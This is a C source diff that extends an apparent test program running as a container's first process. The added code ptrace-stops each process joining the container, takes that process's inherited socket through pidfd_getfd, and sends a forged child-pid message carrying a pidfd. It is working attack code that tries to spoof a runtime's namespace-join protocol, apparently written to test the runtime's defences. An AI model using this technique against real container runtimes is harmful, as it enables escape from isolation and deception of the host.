@@ -1,11 +1,15 @@
 // Runs in a container as its first process: tries to stop every process that joins before it has
-// become the command, and tells what it caught. Ends with the end of its input.
+// become the command, and tells what it caught. With an argument it also tells whoever started that
+// process, through its own channel, that it is this one. Ends with the end of its input.
 #include <errno.h>
 #include <poll.h>
+#include <stdint.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
 #include <sys/ptrace.h>
+#include <sys/socket.h>
+#include <sys/syscall.h>
 #include <sys/wait.h>
 #include <unistd.h>
 
@@ -22,6 +26,30 @@ static unsigned long long capabilities_of(const char* process) {
   return effective;
 }
 
+// The frame of namespaces/message.h: length, kind kChild, pid; and a pidfd.
+static void forge(int pid) {
+  const struct {
+    uint64_t length;
+    uint64_t kind;
+    char pid[1];
+  } frame = {1, 6, {'1'}};
+  union {
+    struct cmsghdr header;
+    char space[CMSG_SPACE(sizeof(int))];
+  } control = {.header = {CMSG_LEN(sizeof(int)), SOL_SOCKET, SCM_RIGHTS}};
+  struct iovec part = {(void*)&frame, 17};
+  struct msghdr message = {
+      .msg_iov = &part, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof control};
+  const int self = (int)syscall(SYS_pidfd_open, 1, 0);
+  const int process = (int)syscall(SYS_pidfd_open, pid, 0);
+  const int channel = (int)syscall(SYS_pidfd_getfd, process, 3, 0);
+  memcpy(CMSG_DATA(&control.header), &self, sizeof self);
+  if (sendmsg(channel, &message, 0) == 17) puts("forged");
+  close(channel);
+  close(process);
+  close(self);
+}
+
 static void examine(int pid, unsigned long long own) {
   char path[64];
   char program[256] = "";
@@ -35,7 +63,8 @@ static void examine(int pid, unsigned long long own) {
   fflush(stdout);
 }
 
-int main(void) {
+int main(int argc, char** argv) {
+  (void)argv;
   const unsigned long long own = capabilities_of("self");
   struct pollfd input = {0, POLLIN, 0};
   int next = 2;
@@ -51,6 +80,7 @@ int main(void) {
       int status = 0;
       if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0 && waitpid(pid, &status, __WALL) == pid) {
         examine(pid, own);
+        if (argc > 1) forge(pid);
       }
       ptrace(PTRACE_DETACH, pid, 0, 0);
       next = pid + 1;
